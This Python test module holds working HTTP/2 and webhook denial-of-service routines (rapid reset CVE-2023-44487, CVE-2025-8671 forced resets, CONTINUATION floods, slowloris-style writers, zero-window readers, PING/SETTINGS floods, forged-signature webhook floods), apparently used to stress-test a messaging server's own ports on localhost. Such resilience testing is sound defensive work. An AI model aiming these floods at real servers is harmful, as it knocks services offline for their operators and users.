"""Abusers of one server: each a coroutine that goes on until it is cancelled, and counts what it did.

`python -m tests.proof.abuse.abusers NAME GRPC_PORT WEBHOOK_PORT KEY` runs one, with the lowest priority, until SIGTERM,
and prints its count. They send to this machine only.
"""

import asyncio
import contextlib
import itertools
import os
import signal
import struct
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Coroutine
from dataclasses import dataclass, field
from typing import Any, Final

import uvloop

from tests.proof.abuse import wire

HOST: Final = "127.0.0.1"
# Of this machine, too; to an engine it is another's.
ELSEWHERE: Final = "127.0.0.2"
SUBMIT: Final = "/longwave.v1.MessagingService/SubmitMessage"
WATCH: Final = "/longwave.v1.MessagingService/WatchEvents"
FLOODING_CONNECTIONS: Final = 4
OUTSTANDING: Final = 64
WEBHOOK: Final = b"/webhooks/telnyx?m=0a00000000000&g=1&k=c1&v=00"
_from = HOST
SETTLED: Final = wire.frame(wire.SETTINGS, wire.ACK, 0)


@dataclass
class Target:
    """What is abused."""

    grpc_port: int
    webhook_port: int
    key: str
    done: Counter[str] = field(default_factory=Counter)


async def _drain(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(1 << 16):
            pass


async def _again(target: Target, work: Callable[[], Awaitable[None]]) -> None:
    """Whoever is thrown out comes back."""
    while True:
        try:
            await work()
        except (OSError, EOFError, RuntimeError):  # the last: uvloop's, for writing on what was closed meanwhile
            target.done["thrown out"] += 1
        await asyncio.sleep(0.01)


async def _many(count: int, work: Callable[[], Awaitable[None]], target: Target) -> None:
    await asyncio.gather(*(_again(target, work) for _ in range(count)))


async def _connected(port: int, use: Callable[[asyncio.StreamWriter, asyncio.StreamReader], Awaitable[None]]) -> None:
    reader, writer = await asyncio.open_connection(HOST, port, local_addr=(_from, 0))
    try:
        await use(writer, reader)
    finally:
        writer.close()


async def _burst(
    target: Target, did: str, call: Callable[[int], bytes], *, first: bytes = b"", patience_s: float | None = None
) -> None:
    """A hundred calls in one breath, as fast as they are taken, on each connection; `call` has the frames of one.

    With patience a connection is left as soon as it does not take everything within it.
    """

    async def use(writer: asyncio.StreamWriter, reader: asyncio.StreamReader) -> None:
        reading = asyncio.ensure_future(_drain(reader))
        writer.write(wire.opening() + first)
        for begin in itertools.count(1, 200):
            streams = range(begin, begin + 200, 2)
            writer.write(b"".join(map(call, streams)))
            target.done[did] += len(streams)
            try:
                async with asyncio.timeout(patience_s):
                    await writer.drain()
            except TimeoutError:
                writer.transport.abort()
                raise EOFError from None
            await asyncio.sleep(0)
            if reading.done():
                raise EOFError

    await _many(FLOODING_CONNECTIONS, lambda: _connected(target.grpc_port, use), target)


async def rapid_reset(target: Target) -> None:
    """Calls opened and reset in one breath, as fast as they are taken (CVE-2023-44487)."""
    headers = wire.call_fields(SUBMIT, key=target.key)
    await _burst(
        target,
        "calls reset",
        lambda stream: wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers) + wire.reset(stream),
    )


async def reset_and_come_back(target: Target) -> None:
    """Rapid reset, a settled connection each time, that is left as soon as it does not take everything at once."""
    headers = wire.call_fields(SUBMIT, key=target.key)

    def call(stream: int) -> bytes:
        body = wire.frame(wire.DATA, wire.END_STREAM, stream, wire.message(b""))
        return wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers) + body + wire.reset(stream)

    await _burst(target, "calls reset", call, first=SETTLED, patience_s=0.05)


async def made_to_reset(target: Target) -> None:
    """Calls that the server must reset itself, by a frame that breaks the rules of their stream (CVE-2025-8671)."""
    headers = wire.call_fields(SUBMIT, key=target.key)

    def call(stream: int) -> bytes:
        wrong = wire.frame(wire.WINDOW_UPDATE, 0, stream, wire.NO_WINDOW)
        return wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers) + wrong

    await _burst(target, "calls to be reset", call, first=SETTLED)


async def _flood(target: Target, key: str, payload: bytes, path: str = SUBMIT) -> None:
    """So many tiny calls outstanding on each connection at all times."""
    headers = wire.call_fields(path, key=key)

    async def use(writer: asyncio.StreamWriter, reader: asyncio.StreamReader) -> None:
        writer.write(wire.opening())
        streams = itertools.count(1, 2)

        def send(count: int) -> None:
            for stream in itertools.islice(streams, count):
                body = wire.frame(wire.DATA, wire.END_STREAM, stream, wire.message(payload))
                writer.write(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers) + body)

        send(OUTSTANDING)
        while True:
            head = await reader.readexactly(9)
            length = int.from_bytes(head[:3], "big")
            await reader.readexactly(length)
            if head[3] in {wire.HEADERS, wire.RST_STREAM} and (head[3] == wire.RST_STREAM or head[4] & wire.END_STREAM):
                target.done["calls answered"] += 1
                send(1)
            elif head[3] == wire.SETTINGS and not head[4] & wire.ACK:
                writer.write(wire.frame(wire.SETTINGS, wire.ACK, 0))
            elif head[3] == wire.PING and not head[4] & wire.ACK:
                writer.write(wire.frame(wire.PING, wire.ACK, 0, bytes(length)))

    await _many(FLOODING_CONNECTIONS, lambda: _connected(target.grpc_port, use), target)


async def calls_without_a_key(target: Target) -> None:
    """Tiny calls that nobody may make."""
    await _flood(target, "", b"")


async def calls_that_are_refused(target: Target) -> None:
    """Tiny calls of someone who may, with nothing in them."""
    await _flood(target, target.key, b"")


async def calls_of_no_method(target: Target) -> None:
    """Tiny calls of a method that does not exist."""
    await _flood(target, target.key, b"", "/longwave.v1.MessagingService/Nothing")


async def huge_metadata(target: Target) -> None:
    """Headers far beyond what is taken, ended, and header blocks that never end."""
    big = tuple((b"x-%d" % number, b"a" * 8000) for number in range(16))
    block = wire.call_fields(SUBMIT, key=target.key, more=big)
    pieces = [block[start : start + wire.FRAME_BYTES_MAX] for start in range(0, len(block), wire.FRAME_BYTES_MAX)]
    filler = wire.fields([(b"x", b"a" * 16_000)])

    async def ended(writer: asyncio.StreamWriter, reader: asyncio.StreamReader) -> None:
        reading = asyncio.ensure_future(_drain(reader))
        writer.write(wire.opening())
        for stream in itertools.count(1, 2):
            writer.write(wire.frame(wire.HEADERS, wire.END_STREAM, stream, pieces[0]))
            for place, piece in enumerate(pieces[1:], 2):
                flags = wire.END_HEADERS if place == len(pieces) else 0
                writer.write(wire.frame(wire.CONTINUATION, flags, stream, piece))
            target.done["calls with huge metadata"] += 1
            await writer.drain()
            await asyncio.sleep(0.001)
            if reading.done():
                raise EOFError

    async def endless(writer: asyncio.StreamWriter, reader: asyncio.StreamReader) -> None:
        reading = asyncio.ensure_future(_drain(reader))
        writer.write(wire.opening() + wire.frame(wire.HEADERS, 0, 1, wire.call_fields(SUBMIT, key=target.key)))
        while not reading.done():
            writer.write(wire.frame(wire.CONTINUATION, 0, 1, filler))
            target.done["continuations"] += 1
            await writer.drain()
            await asyncio.sleep(0.001)
        raise EOFError

    await asyncio.gather(
        _many(2, lambda: _connected(target.grpc_port, ended), target),
        _many(2, lambda: _connected(target.grpc_port, endless), target),
    )


async def idle_streams(target: Target) -> None:
    """Thousands of watches that nobody reads from, and of connections that say nothing, to both ports."""
    headers = wire.call_fields(WATCH, key=target.key)

    async def watching(writer: asyncio.StreamWriter, reader: asyncio.StreamReader) -> None:
        writer.write(wire.opening())
        for stream in range(1, 400, 2):
            body = wire.frame(wire.DATA, wire.END_STREAM, stream, wire.message(b""))
            writer.write(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers) + body)
            target.done["streams opened"] += 1
        await writer.drain()
        await _drain(reader)
        raise EOFError

    async def silent(_writer: asyncio.StreamWriter, reader: asyncio.StreamReader) -> None:
        target.done["silent connections"] += 1
        await _drain(reader)
        raise EOFError

    await asyncio.gather(
        _many(10, lambda: _connected(target.grpc_port, watching), target),
        _many(300, lambda: _connected(target.grpc_port, silent), target),
        _many(300, lambda: _connected(target.webhook_port, silent), target),
    )


async def slow_writers(target: Target) -> None:
    """Requests that arrive a byte at a time and never end, at both ports."""
    headers = wire.call_fields(SUBMIT, key=target.key)

    async def call(writer: asyncio.StreamWriter, reader: asyncio.StreamReader) -> None:
        reading = asyncio.ensure_future(_drain(reader))
        writer.write(wire.opening())
        for stream in range(1, 20, 2):
            writer.write(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers))
        body = wire.message(bytes(4_000_000))
        for place in range(len(body)):
            for stream in range(1, 20, 2):
                writer.write(wire.frame(wire.DATA, 0, stream, body[place : place + 1]))
                target.done["bytes"] += 1
            await writer.drain()
            await asyncio.sleep(0.5)
            if reading.done():
                raise EOFError

    async def webhook(writer: asyncio.StreamWriter, reader: asyncio.StreamReader) -> None:
        reading = asyncio.ensure_future(_drain(reader))
        for byte in b"POST " + WEBHOOK + b" HTTP/1.1\r\nHost: " + b"a" * 4000:
            writer.write(bytes((byte,)))
            target.done["bytes"] += 1
            await writer.drain()
            await asyncio.sleep(0.5)
            if reading.done():
                raise EOFError

    await asyncio.gather(
        _many(50, lambda: _connected(target.grpc_port, call), target),
        _many(300, lambda: _connected(target.webhook_port, webhook), target),
    )


async def slow_readers(target: Target) -> None:
    """Watches whose client lets nothing be sent, while there is more and more to send."""
    headers = wire.call_fields(WATCH, key=target.key)

    async def use(writer: asyncio.StreamWriter, reader: asyncio.StreamReader) -> None:
        writer.write(wire.opening(window=0))
        for stream in range(1, 20, 2):
            body = wire.frame(wire.DATA, wire.END_STREAM, stream, wire.message(b""))
            writer.write(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers) + body)
            target.done["watches"] += 1
        await _drain(reader)
        raise EOFError

    await _many(20, lambda: _connected(target.grpc_port, use), target)


async def pings_and_settings(target: Target) -> None:
    """Frames that ask for an answer each and carry nothing."""
    flood = (wire.frame(wire.PING, 0, 0, bytes(8)) + wire.frame(wire.SETTINGS, 0, 0)) * 50

    async def use(writer: asyncio.StreamWriter, reader: asyncio.StreamReader) -> None:
        reading = asyncio.ensure_future(_drain(reader))
        writer.write(wire.opening())
        while not reading.done():
            writer.write(flood)
            target.done["frames"] += 100
            await writer.drain()
            await asyncio.sleep(0)
        raise EOFError

    await _many(FLOODING_CONNECTIONS, lambda: _connected(target.grpc_port, use), target)


async def tiny_frames(target: Target) -> None:
    """Long requests in frames of a byte each, as fast as they are taken; of nobody, since no request comes whole."""
    headers = wire.call_fields(SUBMIT)
    length = 4_000_000
    some = wire.frame(wire.DATA, 0, 1, b"a") * 1000

    async def use(writer: asyncio.StreamWriter, reader: asyncio.StreamReader) -> None:
        reading = asyncio.ensure_future(_drain(reader))
        writer.write(wire.opening() + SETTLED + wire.frame(wire.HEADERS, wire.END_HEADERS, 1, headers))
        writer.write(wire.frame(wire.DATA, 0, 1, wire.message(bytes(length))[:5]))
        for _ in range(length // 1000):
            writer.write(some)
            target.done["frames"] += 1000
            await writer.drain()
            await asyncio.sleep(0)
            if reading.done():
                raise EOFError
        raise EOFError

    await _many(FLOODING_CONNECTIONS, lambda: _connected(target.grpc_port, use), target)


async def windows_of_many_calls(target: Target) -> None:
    """Settings that move the windows of a hundred open calls, as often as a client may send frames of nothing."""
    headers = wire.call_fields(SUBMIT)
    window = struct.Struct(">HI")
    moves = b"".join(
        wire.frame(wire.SETTINGS, 0, 0, window.pack(wire.SETTING_INITIAL_WINDOW, 60_000 + number % 2))
        for number in range(80)
    )

    async def use(writer: asyncio.StreamWriter, reader: asyncio.StreamReader) -> None:
        reading = asyncio.ensure_future(_drain(reader))
        writer.write(wire.opening() + SETTLED)
        for stream in range(1, 240, 2):
            writer.write(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers))
        while not reading.done():
            writer.write(moves)
            target.done["settings"] += 80
            await writer.drain()
            await asyncio.sleep(0.1)
        raise EOFError

    await _many(50, lambda: _connected(target.grpc_port, use), target)


async def _webhooks(target: Target, body: bytes) -> None:
    numbers = itertools.count(1)

    def request() -> bytes:
        return (
            b"POST " + WEBHOOK + b" HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
            b"Telnyx-Timestamp: %d\r\nTelnyx-Signature-Ed25519: %b\r\nContent-Length: %d\r\n\r\n"
            % (int(time.time()), wire.random_signature(next(numbers)), len(body))
        ) + body

    async def use(writer: asyncio.StreamWriter, reader: asyncio.StreamReader) -> None:
        while True:
            for _ in range(16):
                writer.write(request())
            await writer.drain()
            for _ in range(16):
                head = await reader.readuntil(b"\r\n\r\n")
                target.done[head[9:12].decode()] += 1

    await _many(FLOODING_CONNECTIONS * 4, lambda: _connected(target.webhook_port, use), target)


async def bad_signatures(target: Target) -> None:
    """Webhooks that look right and were signed by nobody, pipelined, as fast as they are refused."""
    await _webhooks(target, b'{"data":{"event_type":"message.finalized","id":"x","payload":{}}}' + b" " * 900)


async def oversize_webhooks(target: Target) -> None:
    """Bodies beyond what is taken."""
    await _webhooks(target, bytes(300_000))


ABUSES: Final[dict[str, Callable[[Target], Coroutine[Any, Any, None]]]] = {
    abuse.__name__: abuse
    for abuse in (
        rapid_reset, reset_and_come_back, made_to_reset, calls_without_a_key, calls_that_are_refused,
        calls_of_no_method, huge_metadata, idle_streams, slow_writers,
        slow_readers, pings_and_settings, tiny_frames, windows_of_many_calls, bad_signatures, oversize_webhooks,
    )
}  # fmt: skip


async def _run(name: str, target: Target) -> None:
    stopped = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stopped.set)
    work = asyncio.ensure_future(ABUSES[name](target))
    sys.stdout.write("begun\n")
    sys.stdout.flush()
    await asyncio.wait([work, asyncio.ensure_future(stopped.wait())], return_when=asyncio.FIRST_COMPLETED)
    if work.done():
        work.result()
    sys.stdout.write(", ".join(f"{what}: {count:,}" for what, count in sorted(target.done.items())) + "\n")
    sys.stdout.flush()
    os._exit(0)  # thousands of connections need no goodbye


if __name__ == "__main__":
    os.nice(19)
    name, grpc_port, webhook_port, key, *core = sys.argv[1:]
    if core:
        os.sched_setaffinity(0, map(int, core))
        _from = ELSEWHERE
    with asyncio.Runner(loop_factory=uvloop.new_event_loop) as runner:
        runner.run(_run(name, Target(int(grpc_port), int(webhook_port), key)))
